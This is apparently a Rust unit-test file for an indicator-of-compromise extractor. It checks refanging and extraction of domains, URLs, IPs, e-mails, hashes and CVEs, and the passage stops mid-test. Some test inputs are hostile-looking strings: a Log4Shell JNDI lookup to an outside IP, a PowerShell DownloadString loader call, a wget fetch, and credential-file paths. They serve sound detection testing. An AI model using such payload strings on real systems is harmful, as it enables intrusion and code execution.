//! Rule-by-rule unit tests of the extractor. Each test names one rule and shows it on
//! several texts, positive and negative; properties over arbitrary input live in
//! `tests/properties.rs`.

use crate::{IocType, extract};

/// Asserts that `text` yields exactly `want` as (type, value) pairs, in order.
#[track_caller]
fn check(text: &str, want: &[(&str, &str)]) {
    let got: Vec<(String, String)> = extract(text)
        .into_iter()
        .map(|m| (m.kind.as_str().to_owned(), m.value))
        .collect();
    let want: Vec<(String, String)> = want
        .iter()
        .map(|(t, v)| ((*t).to_owned(), (*v).to_owned()))
        .collect();
    assert_eq!(got, want, "text: {text:?}");
}

/// Asserts that `text` yields nothing.
#[track_caller]
fn none(text: &str) {
    check(text, &[]);
}

macro_rules! cases {
    ($($name:ident: $text:expr => [$(($t:expr, $v:expr)),* $(,)?];)*) => {
        $(
            #[test]
            fn $name() {
                check($text, &[$(($t, $v)),*]);
            }
        )*
    };
}

// ------------------------------------------------------------------ defang styles

cases! {
    defang_square_dot: "relied on cdn-updates[.]net today" => [("domain", "cdn-updates.net")];
    defang_paren_dot: "live on mail-auth(.)xyz now" => [("domain", "mail-auth.xyz")];
    defang_brace_dot: "from parcel{.}online once" => [("domain", "parcel.online")];
    defang_word_brackets: "api[dot]collect[dot]site and x(dot)y(DOT)com and a{dot}b{DOT}org" =>
        [("domain", "api.collect.site"), ("domain", "x.y.com"), ("domain", "a.b.org")];
    defang_dot_upper: "apple-verify[DOT]help" => [("domain", "apple-verify.help")];
    defang_last_dot_only: "adobe-dl[.]cn and sub.example[.]co.uk" =>
        [("domain", "adobe-dl.cn"), ("domain", "sub.example.co.uk")];
    defang_spaced_bracket: "on free-trial [.] tk - and gift [ . ] ml" =>
        [("domain", "free-trial.tk"), ("domain", "gift.ml")];
    defang_backslash_dot: "okta-sso\\.com - reported" => [("domain", "okta-sso.com")];
    defang_half_bracket: "careers-offer[.net, and pdf-viewer[.top once" =>
        [("domain", "careers-offer.net"), ("domain", "pdf-viewer.top")];
    defang_word_dot: "resolution-center dot com - and evil dot co dot uk" =>
        [("domain", "resolution-center.com"), ("domain", "evil.co.uk")];
    defang_fullwidth_dot: "example．com へ, ｅｘａｍｐｌｅ．ｃｏｍ" =>
        [("domain", "example.com"), ("domain", "example.com")];
    defang_ip_dots: "5[.]188[.]86[.]114, 103(.)75(.)190(.)12, 77{.}91{.}68{.}40, 193.42.33[.]7" =>
        [("ipv4", "5.188.86.114"), ("ipv4", "103.75.190.12"), ("ipv4", "77.91.68.40"), ("ipv4", "193.42.33.7")];
}

#[test]
fn word_dot_needs_a_name_and_a_usual_tld() {
    none("the dot com bubble");
    none("a green dot bank");
    none("a red dot on the map");
    none("the dot is small");
}

#[test]
fn defanged_flag_and_offsets() {
    let t = "C2 evil[.]com and good.org";
    let m = extract(t);
    assert_eq!(m.len(), 2);
    assert!(m[0].defanged);
    assert_eq!(&t[m[0].start..m[0].end], "evil[.]com");
    assert!(!m[1].defanged);
    assert_eq!(&t[m[1].start..m[1].end], "good.org");
}

// ------------------------------------------------------------------ URLs

cases! {
    url_hxxp: "requested hxxp://login-verify[.]net/owa/auth.php and" => [("url", "http://login-verify.net/owa/auth.php")];
    url_hxxps_ip: "to hxxps://185[.]161[.]208[.]33/bins/x86 where" => [("url", "https://185.161.208.33/bins/x86")];
    url_hxxps_upper: "from HXXPS://SECURE-ALERT[.]SUPPORT/session/Expired.php and" => [("url", "https://secure-alert.support/session/Expired.php")];
    url_hxxp_mixed_case: "from hXXps://share.xyz/Q3.html —" => [("url", "https://share.xyz/Q3.html")];
    url_colon_bracket: "hxxps[:]//auth[.]okta-login[.]com/mfa and http[:]//api.wallet.app/v1" =>
        [("url", "https://auth.okta-login.com/mfa"), ("url", "http://api.wallet.app/v1")];
    url_colon_slashes_bracket: "https[://]cdn[.]files[.]net/a/b.exe —" => [("url", "https://cdn.files.net/a/b.exe")];
    url_slash_bracket: "hxxps://img[.]share[.]site[/]p[/]IMG_1.jpg.exe —" => [("url", "https://img.share.site/p/IMG_1.jpg.exe")];
    url_dot_word_in_host: "hxxps://198[dot]51[dot]100[dot]23:8080/upd/agent.bin and" => [("url", "https://198.51.100.23:8080/upd/agent.bin")];
    url_fxp: "fxp://api[.]wallet[.]app/v1/seed" => [("url", "ftp://api.wallet.app/v1/seed")];
    url_xxxx: "sent to xxxx://api[.]wallet[.]app/v1 where" => [("url", "http://api.wallet.app/v1")];
    url_backslashes: "from http:\\\\185.161.208.33/bins/x86 — and http:\\cdn.static.org/js/a.js" =>
        [("url", "http://185.161.208.33/bins/x86"), ("url", "http://cdn.static.org/js/a.js")];
    url_double_underscore: "requested http__share-point[.]xyz/sites/Q3.html and" => [("url", "http://share-point.xyz/sites/Q3.html")];
    url_cisco_esa: "from http:// mirror.pkg-updates .info /linux/kworker.sh — and http:// 203.0.113.54 /c2/beacon where" =>
        [("url", "http://mirror.pkg-updates.info/linux/kworker.sh"), ("url", "http://203.0.113.54/c2/beacon")];
    url_fullwidth_colon: "hxxps：//evil[.]com/path" => [("url", "https://evil.com/path")];
    url_fullwidth_port_and_slash: "C&C：hxxp://c2-jp[.]net：8080/gate、IOC：malware-dl[.]xyz／update.exe" =>
        [("url", "http://c2-jp.net:8080/gate"), ("url", "http://malware-dl.xyz/update.exe")];
    url_japanese_sentence: "攻撃に使われたドメインは evil-jp[.]com、IPアドレスは 198.51.100[.]77 です。" =>
        [("domain", "evil-jp.com"), ("ipv4", "198.51.100.77")];
    url_json_escaped: r#"{"u":"https:\/\/e.example.com\/g.php"}"# => [("url", "https://e.example.com/g.php")];
    url_schemeless_defanged: "requested dl[.]free-vpn[.]cc/setup/x64.msi and" => [("url", "http://dl.free-vpn.cc/setup/x64.msi")];
    url_schemeless_www: "Download from www.free-codecs.com/setup.exe was" => [("url", "http://www.free-codecs.com/setup.exe")];
    url_host_slash_is_url: "evil[.]com/" => [("url", "http://evil.com/")];
    url_port_no_path: "hxxp://test-malware[.]com:8080" => [("url", "http://test-malware.com:8080")];
    url_case: "hxxps://mixed-case[.]COM/Some/Path?Q=ABC" => [("url", "https://mixed-case.com/Some/Path?Q=ABC")];
    url_defang_in_path: "hxxps://redirect[.]com/path/page[.]html" => [("url", "https://redirect.com/path/page.html")];
    url_userinfo: "https://user:pass123@ftp.files-backup.net/dump.sql leaked" => [("url", "https://user:pass123@ftp.files-backup.net/dump.sql")];
    url_ipv6_host: "http://[2001:DB8::5]:8443/admin" => [("url", "http://[2001:db8::5]:8443/admin")];
    url_other_schemes: "tcp://91.215.85.17:1337 and stratum+tcp://pool.minexmr.com:4444 and ldap://1.2.3.4/a" =>
        [("url", "tcp://91.215.85.17:1337"), ("url", "stratum+tcp://pool.minexmr.com:4444"), ("url", "ldap://1.2.3.4/a")];
    url_log4shell: "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/d2dldCBodHRw}" =>
        [("url", "ldap://45.155.205.233:12344/Basic/Command/Base64/d2dldCBodHRw")];
    url_idn_host: "http://сбербанк-онлайн.рф/vhod" => [("url", "http://xn----7sbbbax6afkrcdiwm.xn--p1ai/vhod")];
    url_percent_query_fragment: "https://safe.com/r?u=https%3A%2F%2Fphish.top%2Flogin#x was" => [("url", "https://safe.com/r?u=https%3A%2F%2Fphish.top%2Flogin#x")];
}

cases! {
    url_end_sentence_punct: "see https://evil.com/path, https://evil2.com/path; https://evil3.com/path." =>
        [("url", "https://evil.com/path"), ("url", "https://evil2.com/path"), ("url", "https://evil3.com/path")];
    url_end_balanced_parens: "Details: https://en.wikipedia.org/wiki/Emotet_(malware) has" => [("url", "https://en.wikipedia.org/wiki/Emotet_(malware)")];
    url_end_unbalanced_paren: "Read (https://blog.talos.org/2024/qakbot/) for" => [("url", "https://blog.talos.org/2024/qakbot/")];
    url_end_markdown_link: "[click here](https://evil.site/phish?id=1)." => [("url", "https://evil.site/phish?id=1")];
    url_end_markdown_bold: "**https://bold.example.org/path**" => [("url", "https://bold.example.org/path")];
    url_end_backtick: "`https://dl.payload-cdn.site/x.dll` (inline code)" => [("url", "https://dl.payload-cdn.site/x.dll")];
    url_end_quotes: "DownloadString('https://ps-loader.xyz/p.ps1')\" and \"http://a.example.org/b\"" =>
        [("url", "https://ps-loader.xyz/p.ps1"), ("url", "http://a.example.org/b")];
    url_end_html: "<img src='http://203.0.113.88/px.gif' width=1><a href=\"https://x.example.net/a\">" =>
        [("url", "http://203.0.113.88/px.gif"), ("url", "https://x.example.net/a")];
    url_end_html_entity: "href=&quot;https://x.example.net/a&quot;&gt;" => [("url", "https://x.example.net/a")];
    url_end_angle: "<https://portal-verify.com/login>" => [("url", "https://portal-verify.com/login")];
    url_end_unicode_quotes: "“https://invoice-center.biz/pay” was" => [("url", "https://invoice-center.biz/pay")];
    url_end_ellipsis: "linked https://t.co/Ab3dE9fGh1…" => [("url", "https://t.co/Ab3dE9fGh1")];
    url_end_pipe: "a | https://a.example.com/x|b" => [("url", "https://a.example.com/x")];
    url_end_cjk: "访问 https://update-cn.cn/a.apk 下载, 「https://x.example.jp/a」へ" =>
        [("url", "https://update-cn.cn/a.apk"), ("url", "https://x.example.jp/a")];
    url_keeps_cjk_path: "https://ja.wikipedia.org/wiki/日本 " => [("url", "https://ja.wikipedia.org/wiki/日本")];
    url_trailing_slash_kept: "to hxxp://update[.]cdn-services[.]com/ and then" => [("url", "http://update.cdn-services.com/")];
}

#[test]
fn json_escaping_is_not_defanging() {
    let m = extract(r#""https:\/\/e.example.com\/g""#);
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].value, "https://e.example.com/g");
    assert!(!m[0].defanged);
}

#[test]
fn url_needs_a_real_host() {
    none("file:///etc/passwd");
    none("http://intranet/x");
    none("http:// is a scheme");
    none("jndi:foo://bar");
    none("see https://evil.exe/x");
}

// ------------------------------------------------------------------ IP addresses

cases! {
    ipv4_plain: "from 45.133.1.20 and 45.133.1.21 over" => [("ipv4", "45.133.1.20"), ("ipv4", "45.133.1.21")];
    ipv4_ports: "Brute force from 218.92.0.112:22 and 61.177.172.140:22 (see logs)" =>
        [("ipv4", "218.92.0.112"), ("ipv4", "61.177.172.140")];
    ipv4_csv: "used: 31.41.244.11,31.41.244.12" => [("ipv4", "31.41.244.11"), ("ipv4", "31.41.244.12")];
    ipv4_special: "allow 127.0.0.1 and 0.0.0.0 bindings" => [("ipv4", "127.0.0.1"), ("ipv4", "0.0.0.0")];
    ipv4_range: "Range 192.0.2.10-192.0.2.20 was scanned." => [("ipv4", "192.0.2.10"), ("ipv4", "192.0.2.20")];
    ipv4_brackets: "from mail.bad[.]ru ([185.100.87.202]) by mx.victim.local" =>
        [("domain", "mail.bad.ru"), ("ipv4", "185.100.87.202")];
    ipv4_user_at: "ssh root@203.0.113.9 -p 22" => [("ipv4", "203.0.113.9")];
    ipv4_unc: "\\\\198.51.100.3\\c$" => [("ipv4", "198.51.100.3")];
    ipv4_url_schemeless: "wget 1.2.3.4:80/x and 185.161.208.33/bins/x86" =>
        [("url", "http://1.2.3.4:80/x"), ("url", "http://185.161.208.33/bins/x86")];
    cidr_v4: "range 45.142.212.0/22 and 185.220.101[.]0/24 (Tor)" =>
        [("cidr", "45.142.212.0/22"), ("cidr", "185.220.101.0/24")];
    cidr_v6: "Block 2001:db8:abcd::/48 at" => [("cidr", "2001:db8:abcd::/48")];
    ipv6_forms: "from 2a01:4f8:c17:b8f::2 port, 2001:41d0:8:e8ad::1. and [2001:db8::1f]:8443" =>
        [("ipv6", "2a01:4f8:c17:b8f::2"), ("ipv6", "2001:41d0:8:e8ad::1"), ("ipv6", "2001:db8::1f")];
    ipv6_compressed_output: "is 2001:0db8:0000:0000:0000:ff00:0042:8329." => [("ipv6", "2001:db8::ff00:42:8329")];
    ipv6_mapped: "The mapped address ::ffff:198.51.100.14 hides" => [("ipv6", "::ffff:198.51.100.14")];
    ipv6_loopback_zone: "::1 and fe80::1ff:fe23:4567:890a%eth0" => [("ipv6", "::1"), ("ipv6", "fe80::1ff:fe23:4567:890a")];
}

#[test]
fn no_ipv4_from_versions_oids_or_invalid() {
    none("Affected firmware: v2.4.1.8 through v2.4.3.1 on the RV340 series.");
    none("mostly running firmware 1.0.4.128, reachable");
    none("Upgrade to 2.4.1.0 or later.");
    none("FortiOS 7.2.4.1 and earlier");
    none("SNMP walk of 1.3.6.1.2.1.1.5.0 returned");
    none("OID 1.3.6.1 is iso.org.dod.internet");
    none("Invalid address 256.300.1.1 and 999.1.1.1, and 01.02.03.04");
    none("rates were 12.5%, 13.2% and version 1.1.");
    none("Mozilla/5.0 Firefox/115.0.2.1 (Windows NT 10.0; Win64; x64)");
    none("See section 2.1.3.4 of the RFC.");
    none("Score: 9.8/10 (CVSS 3.1)");
}

#[test]
fn no_ipv6_from_times_macs_or_code() {
    none("The job ran at 12:30:45 and again at 23:06:41 UTC.");
    none("Timestamp: 2024-01-01T12:00:00Z, duration 00:05:13");
    none("Interface MAC 00:1a:2b:3c:4d:5e changed to 02:42:ac:11:00:02.");
    none("EUI-64 00:11:22:33:44:55:66:77 and de:ad:be:ef");
    none("calls std::vector::push_back and Foo::Bar::init and Add::Bad and dead::beef");
    none("x[1::2] and a::before and the :: address");
    none("ssdeep 3072:Zf1XkTq0pS3h9b2LmN4c:Zf1XkTq0pS3h9b2LmN4c here");
}

// ------------------------------------------------------------------ e-mail

cases! {
    email_at_forms: "hr[@]corp-payroll[.]com, help_restore[at]airmail[.]cc, decrypt.support(@)onionmail(.)org, abuse{at}bullet{dot}su" =>
        [("email", "hr@corp-payroll.com"), ("email", "help_restore@airmail.cc"),
         ("email", "decrypt.support@onionmail.org"), ("email", "abuse@bullet.su")];
    email_spaced_brackets: "Contact: admin [at] evil-mail [dot] ru" => [("email", "admin@evil-mail.ru")];
    email_lowercased: "Emails from ADMIN@EXAMPLE-PAYROLL.COM should" => [("email", "admin@example-payroll.com")];
    email_semicolon_list: "Emails: a.b@c-corp.com;d.e@c-corp.com" => [("email", "a.b@c-corp.com"), ("email", "d.e@c-corp.com")];
    email_mailto_angle: "mailto:sec@notice.net and \"IT\" <it@helpdesk.org>" => [("email", "sec@notice.net"), ("email", "it@helpdesk.org")];
    email_plus_and_leading_chars: "mail me: a.b+tag@sub.example.co.uk! or _svc@evil-corp.com" =>
        [("email", "a.b+tag@sub.example.co.uk"), ("email", "_svc@evil-corp.com")];
    email_trailing_dot: "from john.smith@outlook-mail[.]com." => [("email", "john.smith@outlook-mail.com")];
    email_idn_domain: "admin@пример.рф" => [("email", "admin@xn--e1afmkfd.xn--p1ai")];
}

#[test]
fn no_email_from_lookalikes() {
    none("user@localhost and root@server");
    none("git clone git@github.com:org/repo.git");
    none("npm install @babel/core@7.24.0 --save-dev");
    none("@media (max-width: 600px) { .hero { display: none } }");
    none("Contact me at user[@]domain once released.");
    none("Price list: 3 @ $4.99 each, 10 @ $3.50 each.");
    none("ping @Microsoft365 and @evil_handle");
}

#[test]
fn prose_at_is_not_glued() {
    check(
        "Take a look at secure-update[.]net before",
        &[("domain", "secure-update.net")],
    );
    check("bad actor at evil.com today", &[("domain", "evil.com")]);
}

// ------------------------------------------------------------------ domains

cases! {
    domain_plain: "Both microsoft.com and microsoft-login-alert.com appeared" =>
        [("domain", "microsoft.com"), ("domain", "microsoft-login-alert.com")];
    domain_trailing_dot_and_quotes: "secure-update.net. \"cdn-assets.com\", (e.g., bluewhale-cdn.com)." =>
        [("domain", "secure-update.net"), ("domain", "cdn-assets.com"), ("domain", "bluewhale-cdn.com")];
    domain_wildcard: "certificates for *.secure-cdn-edge.com." => [("domain", "secure-cdn-edge.com")];
    domain_numeric_labels: "203.0.113.5 from 203.0.113.5.nip.io" => [("ipv4", "203.0.113.5"), ("domain", "203.0.113.5.nip.io")];
    domain_subdomain_trick: "paypal.com.account-secure-login[.]net" => [("domain", "paypal.com.account-secure-login.net")];
    domain_onion: "Leak site: lockbit7z2jwcskxpbokpemdxmltipntwlkmidcll2qirbu7ykg46eyd.onion" =>
        [("domain", "lockbit7z2jwcskxpbokpemdxmltipntwlkmidcll2qirbu7ykg46eyd.onion")];
    domain_idn: "Homograph аррӏе.com, 例子.中国 and bücher.de" =>
        [("domain", "xn--80ak6aa92e.com"), ("domain", "xn--fsqu00a.xn--fiqs8s"), ("domain", "xn--bcher-kva.de")];
    domain_punycode: "Punycode form xn--80ak6aa92e[.]com was" => [("domain", "xn--80ak6aa92e.com")];
    domain_cjk_adjacent: "「example[.]com」へ通信, マルウェアはevil-c2.netと通信する。" =>
        [("domain", "example.com"), ("domain", "evil-c2.net")];
    domain_with_port: "evil.com:443 and 1.2.3.4:4444" => [("domain", "evil.com"), ("ipv4", "1.2.3.4")];
    domain_upper: "The domain EXAMPLE-C2.COM" => [("domain", "example-c2.com")];
    domain_glued_sentence: "hosted at evil-c2.com.The actor" => [("domain", "evil-c2.com")];
    domain_unc: "\\\\evil-share.com\\public\\payload.exe" => [("domain", "evil-share.com")];
}

#[test]
fn no_domains_from_file_names() {
    none("Attachment invoice.zip contained a shortcut named document.lnk.");
    none("The OneNote file meeting_notes.one embedded an HTA payload.");
    none("Run install.sh, then check config.ini and readme.md for options.");
    none("The bot is written in Python (bot.py) with a Rust helper (main.rs).");
    none("Screen recording was saved as clip.mov and uploaded later.");
    none("The Perl IRC bot (ircbot.pl) has been around since 2010.");
    none("The sample.app bundle on macOS requested permissions.");
    none("C:\\Users\\Public\\Libraries\\msedge.dll was side-loaded by OneDrive.exe");
    none("/tmp/x.sh and ~/.ssh/id_rsa.pub and %TEMP%\\svc.dat");
    none("The dropper setup.exe.zip and invoice.pdf.one");
    none("Files were saved as evil.com and loaded from the file stage2.cc");
}

#[test]
fn no_domains_from_code_or_products() {
    none("Node.js, Vue.js and ASP.NET apps were all affected.");
    none("Loaded System.Net and System.Management.Automation.dll");
    none("The backdoor class com.android.system.update.Service runs at boot.");
    none("Set app.settings.json and user.name and self.id before launch.");
    none("calls foo.bar() and obj.link(x)");
    none("e.g. the U.S. and i.e. the E.U. sanctions list");
    none("lol... that's it. OK.bye");
    none("Windows Defender detects Trojan:Win32/Wacatac.B!ml and Behavior:Win32/Persistence.A");
    none("Memory region 0x00007ff6a1b20000-0x00007ff6a1b4f000 was RWX.");
}

// ------------------------------------------------------------------ hashes

cases! {
    hash_types: "md5 d41d8cd98f00b204e9800998ecf8427e sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709" =>
        [("md5", "d41d8cd98f00b204e9800998ecf8427e"), ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709")];
    hash_upper_and_prefixed: "SHA256:E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855" =>
        [("sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")];
    hash_with_extension: "named 76501a162f44dcea2beb9849a917173f26302dff15b6c7e5f0e18022a7e3e0eb.exe and 2148612da8aad7c4fc5944550deb954b.dll." =>
        [("sha256", "76501a162f44dcea2beb9849a917173f26302dff15b6c7e5f0e18022a7e3e0eb"), ("md5", "2148612da8aad7c4fc5944550deb954b")];
    hash_in_name: "sample_d41d8cd98f00b204e9800998ecf8427e.bin" => [("md5", "d41d8cd98f00b204e9800998ecf8427e")];
    hash_sha512: "sha512=d22dc82234c0d3453eb73ab529f86ad2088bfb4ac65b95c6481bceaf26866a99ae5644dfe03f1b02c430d3c2682fa2cb28ba89024811db962a229146e3687dd6" =>
        [("sha512", "d22dc82234c0d3453eb73ab529f86ad2088bfb4ac65b95c6481bceaf26866a99ae5644dfe03f1b02c430d3c2682fa2cb28ba89024811db962a229146e3687dd6")];
}

#[test]
fn no_hashes_from_other_hex() {
    none("Fixed in commit 2424756664ba4fba90290d227092480e7efe9965 on main.");
    none("imphash 713e4b4d04c227243522386f7753aa08 is shared.");
    none("ja3: e7d705a3286e19ea42f587b344ee6865");
    none("JA3 771,4865-4866,0-23-65281 hash e7d705a3286e19ea42f587b344ee6865 seen");
    none(
        "Bitcoin transaction 286eb498d5117823572c0383c4e0e1e943e35da9a06fa539fa1d0db084ae98ea moved",
    );
    none("The funds went to 0x0b7f5dbcb309e251bed482d1ff9df9d19cfeb0ee on Ethereum.");
    none("Session token 9bdeacf08293aeea6fac9f339606b57bf4644a7cbe341e4d leaked");
    none(
        "SHA-384 94a1ef061a8ccba07f14ef122ed8b8e39d58a6a38f409469ec94a6a1244ef7ac1eda8f93a4c4c0e986ea836a6288f5be",
    );
    none("The GUID {be7b45ea-1e54-2244-99c9-9eb4574d52df} identifies");
    none("Truncated 5cc04020ac7857e00accc9dd44691cf and 5cc04020ac7857e00accc9dd44691cf9a");
    none("cut off (ecf76bafbab3002e...) so");
    none("digits 12345678901234567890123456789012 and mixed D41d8cd98f00b204e9800998ecf8427e");
}

// ------------------------------------------------------------------ CVE, ASN, bitcoin

cases! {
    cve_forms: "CVE-2021-34473, cve-2024-3400, CVE‑2023‑34362, CVE 2021 44228, CVE_2022_22965 and CVE-2024-1234567." =>
        [("cve", "CVE-2021-34473"), ("cve", "CVE-2024-3400"), ("cve", "CVE-2023-34362"),
         ("cve", "CVE-2021-44228"), ("cve", "CVE-2022-22965"), ("cve", "CVE-2024-1234567")];
    cve_followed_by_slash: "Tracked as CVE-2019-0708/BlueKeep." => [("cve", "CVE-2019-0708")];
    asn_forms: "AS9009 (M247), ASN 64512, asn:13335 and AS-3356" =>
        [("asn", "AS9009"), ("asn", "AS64512"), ("asn", "AS13335"), ("asn", "AS3356")];
    btc_forms: "Wallets 38UzaqoN9ZyQEVLJ8e4HYnNQG3ccaGzvTQ and bc1qls0azjkmvxpxv6zthprqvtavf3zjcnfm4ru57e paid" =>
        [("btc", "38UzaqoN9ZyQEVLJ8e4HYnNQG3ccaGzvTQ"), ("btc", "bc1qls0azjkmvxpxv6zthprqvtavf3zjcnfm4ru57e")];
}

#[test]
fn no_cve_asn_btc_lookalikes() {
    none("No CVE-ID yet; MITRE reserved a CVE-2024 block. CWE-79 and GHSA-jfh8-c2jp-5v3q.");
    none("CVE-2021-1 is malformed.");
    none("As of 2024 the AS/400 systems were untouched.");
    none(
        "bad checksum 1BoatSLRHtKNngkdXEeobR76b53LETtpyX and bc1qssgup73a7uzapztjv84u8efuh4s8uxgpg94k2m",
    );
}

// ------------------------------------------------------------------ mixed documents

#[test]
fn mixed_tweet() {
    check(
        "#Emotet C2s:\n51.161.73[.]194:443\nhxxp://cleaning-pros[.]com/wp-admin/B7jR9/\nDoc MD5 8e1f7e2852f2d19c4e02f162afd9727d",
        &[
            ("ipv4", "51.161.73.194"),
            ("url", "http://cleaning-pros.com/wp-admin/B7jR9/"),
            ("md5", "8e1f7e2852f2d19c4e02f162afd9727d"),
        ],
    );
}

#[test]
fn outermost_only() {
    // the host of a URL, the domain of an address and the base of a CIDR are not repeated
    check(
        "https://a.example.com/x a@b.example.org 10.0.0.0/8",
        &[
            ("url", "https://a.example.com/x"),
            ("email", "a@b.example.org"),
            ("cidr", "10.0.0.0/8"),
        ],
    );
}

#[test]
fn matches_are_ordered_and_within_text() {
    let t = "x first+tag@evil.com y 1.2.3.4 z evil[.]org";
    let ms = extract(t);
    assert_eq!(ms.len(), 3);
    for w in ms.windows(2) {
        assert!(w[0].start <= w[1].start);
    }
    assert_eq!(&t[ms[0].start..ms[0].end], "first+tag@evil.com");
    assert_eq!(ms[0].kind, IocType::Email);
}

// ------------------------------------------------------------------ the defang grammar
//
// Separators are a grammar, not a list: brackets (`[](){}<>`, any orientation, up to two
// a side, spaces inside only when both sides are bracketed) around a core — a dot
// (`.` `,` `dot` `punto` `punkt`) or an at (`@` `at` `arroba` `et`) — plus escaped dots
// (`\.`, `^.`) and the prose forms ` dot `, ` at `, ` AT `. Schemes: a colon form then a
// slash form. One case per cell of the grammar, positive and negative.

cases! {
    grammar_dot_cores: "a-evil[dot]com b-evil[punto]net c-evil[punkt]org d-evil[.]info" =>
        [("domain", "a-evil.com"), ("domain", "b-evil.net"), ("domain", "c-evil.org"), ("domain", "d-evil.info")];
    grammar_dot_brackets: "w1-c2(.)top w2-c2{.}top w3-c2<.>top w4-c2[.[top w5-c2].]top w6-c2(.]top" =>
        [("domain", "w1-c2.top"), ("domain", "w2-c2.top"), ("domain", "w3-c2.top"),
         ("domain", "w4-c2.top"), ("domain", "w5-c2.top"), ("domain", "w6-c2.top")];
    grammar_dot_double_brackets: "evil[[.]]com and evil2((dot))net" => [("domain", "evil.com"), ("domain", "evil2.net")];
    grammar_dot_inner_spaces: "evil[ .]com, evil2( dot )net, evil3 [ . ] org" =>
        [("domain", "evil.com"), ("domain", "evil2.net"), ("domain", "evil3.org")];
    grammar_dot_word_cases: "evil[DOT]com evil2(Dot)net evil3{PUNTO}org" =>
        [("domain", "evil.com"), ("domain", "evil2.net"), ("domain", "evil3.org")];
    grammar_dot_comma: "ip 5[,]6[,]7(,)8 seen" => [("ipv4", "5.6.7.8")];
    grammar_dot_escapes: "evil\\.com and evil2^.net" => [("domain", "evil.com"), ("domain", "evil2.net")];
    grammar_dot_upper_word: "Infra: payroll-portal DOT com was" => [("domain", "payroll-portal.com")];
    grammar_hyphen_bracket: "micro[-]soft-support[.]com" => [("domain", "micro-soft-support.com")];
    grammar_at_cores: "a[@]x-mail.com b(at)x-mail.com c{AT}x-mail.com d(arroba)x-mail.com e[et]x-mail.com" =>
        [("email", "a@x-mail.com"), ("email", "b@x-mail.com"), ("email", "c@x-mail.com"),
         ("email", "d@x-mail.com"), ("email", "e@x-mail.com")];
    grammar_at_spaced: "sender hr [ at ] payroll-update [ . ] com" => [("email", "hr@payroll-update.com")];
    grammar_at_spelled: "write to billing at invoice-desk dot com today" => [("email", "billing@invoice-desk.com")];
    grammar_at_upper: "contact darkops AT mail-safe DOT net and ops AT evil-mail.com" =>
        [("email", "darkops@mail-safe.net"), ("email", "ops@evil-mail.com")];
    grammar_at_spanish: "soporte(arroba)banco-alerta(punto)com" => [("email", "soporte@banco-alerta.com")];
}

#[test]
fn grammar_keeps_prose_prose() {
    none("the (dot) operator and [dot] notation");
    none("see [1].The next (a).Then [.]");
    none("look at the data at noon, meet at home at 5");
    none("Analysts at Mandiant looked at it AT scale");
    // upper case all through: the name is spelled out, the `AT` is prose
    check("LOOK AT EVIL DOT COM", &[("domain", "evil.com")]);
    none("function(.5) and arr[.5] and x^.y");
    none("the [et] and (et) symbols");
    // prose `at` before a plain or defanged name: the name alone
    check(
        "bad actor at evil.com and look at secure[.]net",
        &[("domain", "evil.com"), ("domain", "secure.net")],
    );
    check("hosted evil.com at night", &[("domain", "evil.com")]);
}

cases! {
    scheme_no_colon: "get http//dl-cdn[.]com/a.bin now" => [("url", "http://dl-cdn.com/a.bin")];
    scheme_extra_slash: "redirect http:///track-link.site/r?id=5 and" => [("url", "http://track-link.site/r?id=5")];
    scheme_bracketed: "[http]://update[.]net/s.exe and (https)://collect[.]app/x" =>
        [("url", "http://update.net/s.exe"), ("url", "https://collect.app/x")];
    scheme_underscores_after_colon: "url=https:__auth-portal[.]com/owa/" => [("url", "https://auth-portal.com/owa/")];
    scheme_space_before_colon: "Beacon http ://sync-node[.]xyz/gate" => [("url", "http://sync-node.xyz/gate")];
    scheme_blotted: "xxxxx://pay-check[.]com/a and xxxxs://b-check[.]com/b" =>
        [("url", "https://pay-check.com/a"), ("url", "https://b-check.com/b")];
    scheme_bracket_colon_paren: "hxxp(:)//evil[.]com/a hxxps{:}//evil[.]net/b" =>
        [("url", "http://evil.com/a"), ("url", "https://evil.net/b")];
    url_markdown_link_pair: "[https://paste.cc/raw/aB3](https://paste.cc/raw/aB3)." =>
        [("url", "https://paste.cc/raw/aB3"), ("url", "https://paste.cc/raw/aB3")];
    url_json_schemeless: "files-store\\.top\\/drop and \"hxxp:\\/\\/drop[.]ru\\/x.php\"" =>
        [("url", "http://files-store.top/drop"), ("url", "http://drop.ru/x.php")];
    url_ipv6_full_form: "C2 http://[2001:0db8:0000:0000:0000:ff00:0042:8329]:8443/u" =>
        [("url", "http://[2001:db8::ff00:42:8329]:8443/u")];
    domain_service_labels: "SRV _xmpp-client._tcp.chat-relay.net and s1._domainkey.mailer.com, dev_box.tools.io" =>
        [("domain", "_xmpp-client._tcp.chat-relay.net"), ("domain", "s1._domainkey.mailer.com"), ("domain", "dev_box.tools.io")];
    asn_lower_case: "in as14061, asn4134 and AS 9009" => [("asn", "AS14061"), ("asn", "AS4134"), ("asn", "AS9009")];
    cve_space_first: "CVE 2023-4966 and cve 2024-21762." => [("cve", "CVE-2023-4966"), ("cve", "CVE-2024-21762")];
}

#[test]
fn scheme_grammar_negatives() {
    none("file:///etc/passwd and and/or//x and http:// alone");
    none("the word http and (https) support");
    none("no registrable underscore: my_site.com and a._b_.com");
}

#[test]
fn import_hash_is_no_file_hash() {
    none("Import hash: 713e4b4d04c227243522386f7753aa08");
    none("The samples share the import hash 713e4b4d04c227243522386f7753aa08.");
    check(
        "imphash 713e4b4d04c227243522386f7753aa08\nMD5 d41d8cd98f00b204e9800998ecf8427e",
        &[("md5", "d41d8cd98f00b204e9800998ecf8427e")],
    );
}

#[test]
fn extra_tlds_extend_names_not_prose() {
    let ex = crate::Extractor::default().with_extra_tlds(["corp", ".LAN", "not a tld"]);
    let got: Vec<String> = ex
        .extract("build01.corp, hxxp://wiki[.]lan/x and user@mail.corp; readme.md")
        .into_iter()
        .map(|m| m.value)
        .collect();
    assert_eq!(got, ["build01.corp", "http://wiki.lan/x", "user@mail.corp"]);
    assert_eq!(ex.extra_tlds(), ["corp", "lan"]);
    none("build01.corp and wiki[.]lan");
}

#[test]
fn refang_takes_any_defanged_name() {
    use crate::refang;
    assert_eq!(refang("login[.]phish[.]example"), "login.phish.example");
    assert_eq!(refang("hxxps://host[.]corp/x"), "https://host.corp/x");
    assert_eq!(refang("intranet[.]local"), "intranet.local");
